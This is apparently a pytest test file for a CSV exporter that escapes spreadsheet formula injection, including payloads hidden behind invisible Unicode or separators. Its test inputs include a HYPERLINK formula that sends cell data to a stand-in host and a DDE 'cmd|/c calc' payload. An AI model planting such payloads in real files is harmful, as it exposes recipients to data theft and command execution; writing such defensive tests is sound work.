"""CSV that a spreadsheet does not run, and that reads back as what it was."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.deliver.csv import FORMULA, SPACE, to_header, to_lines

PIECE_MARK = re.compile(
    f"(?<=[;\t\r\n])'(?='*[{SPACE}]*[=+\\-@\uff1d\uff0b\uff0d\uff20])|(?<=;)'(?='*[{SPACE}]*[\t\r])"
)
"""The marks of pieces, each of which taken off once gives back the text."""

COLUMNS = {
    "id": "BIGINT",
    "title": "VARCHAR",
    "lat": "DOUBLE",
    "at": "TIMESTAMPTZ",
    "is_new": "BOOLEAN",
    "names": "JSON",
}


def read_back(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def written(title: str) -> str:
    [[cell]] = read_back(to_lines([{"title": title}], {"title": "VARCHAR"}))
    return cell


UNSEEN = " \ufeff\u00a0\u2009\u200b\u200e\u202a\u202d\u202e\u2060\u2066\u2067\u2069\u3000"
SIGNS = ("=", "+", "-", "@", "\uff1d")


@pytest.mark.parametrize(
    "title",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\ufeff=1", "\u00a0=1", ";=1", "\n=1", "\uff1d1+1",
        "\u3000=1", "\u200b=1", "\u2060+1", "\u2009@x", "\u200e-1", "\u200b\tx", "\u202a=1", "\u202e+1", "\u2066@x",
        "'=1", "''@x", "\tx", "\u00a0\r", " \u00a0\tx", "- he said", '=HYPERLINK("http://evil.test/?"&A1,"open")',
    ],
)  # fmt: skip
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe_and_nothing_else(title: str) -> None:
    assert written(title) == f"'{title}"


@pytest.mark.parametrize("title", ["Bridge reopens", "a=b", "3-2", "'tis", "it's -5 °C", "", '"quoted", and\nbroken'])
def test_any_other_text_stays_as_it_is(title: str) -> None:
    assert written(title) == title


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_taking_one_apostrophe_off_gives_back_what_was_there(title: str) -> None:
    cell = written(title)
    kept = cell[1:] if cell.startswith("'") and FORMULA.match(cell) else cell
    assert kept[:1] + PIECE_MARK.sub("", kept[1:]) == title
    assert not cell.lstrip(UNSEEN).startswith((*SIGNS, "\t", "\r"))


@pytest.mark.parametrize(
    "title",
    [
        "a;=1", "a;b; =1", "a;\t=1", "a\t=1", "a\n=1+1", "a\r\n-1", 'a;@x"', "a;;=1", "a;'=1", "a; \ufeff+1",
        "a;\u00a0=1", "a;\u00a0\r", "a;\u3000=1", "a;\u200b=1", "a;\u2009\u2060+1", "a;\u202d=1", "a;\u2067\u2069-1",
        "a;\uff1d1", "a;\tx",
        'he said "x;=cmd|/c calc"',
    ],
)  # fmt: skip
@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("kind", ["VARCHAR", "JSON"])
def test_no_cell_is_a_formula_where_another_sign_separates(title: str, separator: str, kind: str) -> None:
    body = to_lines(
        [{"id": 1, "title": title if kind == "VARCHAR" else [title]}], {"id": "BIGINT", "title": kind}
    ).decode()
    cells = [cell for line in body.splitlines() for cell in line.split(separator)]
    assert [cell for cell in cells if cell.lstrip(UNSEEN).startswith(SIGNS)] == []
    if kind == "JSON":
        assert json.loads(read_back(body.encode())[0][1]) == [title]


def test_numbers_times_and_lists_are_written_as_programs_read_them() -> None:
    row = {
        "id": 7,
        "title": None,
        "lat": -33.9,
        "at": datetime(2026, 3, 1, 8, tzinfo=UTC),
        "is_new": True,
        "names": ["Ann; Bo", "=x"],
    }
    body = to_header(COLUMNS) + to_lines([row], COLUMNS)
    assert read_back(body) == [
        list(COLUMNS),
        ["7", "", "-33.9", "2026-03-01T08:00:00Z", "true", '["Ann; Bo", "=x"]'],
    ]
    assert body.endswith(b"\r\n")
